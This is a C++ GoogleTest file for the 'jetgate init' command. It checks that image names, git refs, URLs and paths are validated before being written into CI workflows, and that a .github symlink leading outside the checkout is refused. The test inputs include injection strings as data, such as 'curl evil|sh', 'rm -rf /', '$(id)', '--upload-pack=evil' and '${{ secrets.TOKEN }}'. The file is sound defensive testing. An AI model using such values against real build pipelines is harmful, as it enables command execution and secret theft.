// SPDX-License-Identifier: Apache-2.0
// `jetgate init` writes option values into shell lines and ${{ }}
// expressions: each is checked against its grammar, and nothing else is
// written (issue 21, class 4); a .github that leads out of the checkout is
// refused.
#include "jetgate/init/init_grammar.hpp"

#include <gtest/gtest.h>

#include <filesystem>

#include "test_support.hpp"

namespace jetgate::init {
namespace {

TEST(InitGrammar, ImageReferences) {
  for (const char* ok :
       {"nvcr.io/nvidia/l4t-jetpack:r36.4.0", "ubuntu:22.04", "localhost:5000/a/b_c:t1",
        "ghcr.io/o/n@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
        "registry.example:443/x--y/z:latest"})
    EXPECT_TRUE(is_image_reference(ok)) << ok;
  for (const char* bad :
       {"no-tag", "x:1;rm -rf /", "x:$(id)", "x:`id`", "x:a\nb", "UPPER/case:1", "-x:1", "x: 1",
        "x:1\"", "x:${{ github.token }}", "x:1 --privileged", ":tag", "a//b:1"})
    EXPECT_FALSE(is_image_reference(bad)) << bad;
}

TEST(InitGrammar, GitRefs) {
  for (const char* ok : {"main", "v0.1.0", "release/1.2", "feature_x-y"})
    EXPECT_TRUE(is_git_ref_name(ok)) << ok;
  for (const char* bad : {"--upload-pack=evil", "-b", "a..b", "a/", "/a", ".a", "a.lock", "a b",
                          "a;b", "$(id)", "a\nb", "a//b", "a/.b", "a@{1}", ""})
    EXPECT_FALSE(is_git_ref_name(bad)) << bad;
}

TEST(InitGrammar, RepositoryUrls) {
  EXPECT_TRUE(is_https_repository_url("https://github.com/jetgate/jetgate"));
  EXPECT_TRUE(is_https_repository_url("https://git.example:8443/a/b.git"));
  for (const char* bad :
       {"http://github.com/a/b", "--upload-pack=x", "https://x/$(id)", "https://x/a b",
        "file:///etc", "https://x/a\"b", "https://x/../b", "https://x"})
    EXPECT_FALSE(is_https_repository_url(bad)) << bad;
}

TEST(InitGrammar, RepositoryRelativePaths) {
  for (const char* ok : {"report.xml", "test-reports/unit.xml", "a/b+c/d_e.xml"})
    EXPECT_TRUE(is_repository_relative_path(ok)) << ok;
  for (const char* bad : {"/etc/x", "../x", "a/../b", "a//b", "-x.xml", "a/-b", "a b.xml", "a\nb",
                          "$(id).xml", "a\"b", "./a", ""})
    EXPECT_FALSE(is_repository_relative_path(bad)) << bad;
}

TEST(InitGrammar, TheCliRefusesEachBadValueAndWritesNothing) {
  struct Case {
    const char* option;
    const char* value;
  };
  for (const Case& c :
       {Case{"--image", "x:1;curl evil|sh"}, Case{"--image", "x:${{ secrets.TOKEN }}"},
        Case{"--jetgate-version", "0.1.0;touch /tmp/pwned"},
        Case{"--jetgate-release-url", "https://x/$(id)"}, Case{"--jetgate-sha256", "aarch64=$(id)"},
        Case{"--pip-install", ". 'x;id'"}, Case{"--jetgate-repo", "https://x/$(id)"},
        Case{"--test-junit", "a\nb.xml"}, Case{"--test-junit", "-o.xml"}}) {
    SCOPED_TRACE(std::string(c.option) + " " + c.value);
    test::TempDir t;
    auto r = test::run_jetgate({"init", "--dir", t.dir(), c.option, c.value});
    EXPECT_EQ(r.exit_code, 2) << r.out << r.err;
    EXPECT_NE(r.err.find(c.option), std::string::npos) << r.err;
    EXPECT_TRUE(std::filesystem::is_empty(t.dir()));
  }
}

TEST(InitGrammar, AGithubLinkOutOfTheCheckoutIsRefused) {
  test::TempDir t;
  std::filesystem::create_directories(t.path("project"));
  std::filesystem::create_directories(t.path("elsewhere"));
  std::filesystem::create_directory_symlink(t.path("elsewhere"), t.path("project/.github"));
  auto r = test::run_jetgate({"init", "--dir", t.path("project")});
  EXPECT_EQ(r.exit_code, 2) << r.out << r.err;
  EXPECT_NE(r.err.find("leads out of the project"), std::string::npos) << r.err;
  EXPECT_TRUE(std::filesystem::is_empty(t.path("elsewhere")));
  // A link that stays inside is followed as before.
  test::TempDir u;
  std::filesystem::create_directories(u.path("ci-config"));
  std::filesystem::create_directory_symlink("ci-config", u.path(".github"));
  EXPECT_EQ(test::run_jetgate({"init", "--dir", u.dir()}).exit_code, 0);
}

}  // namespace
}  // namespace jetgate::init
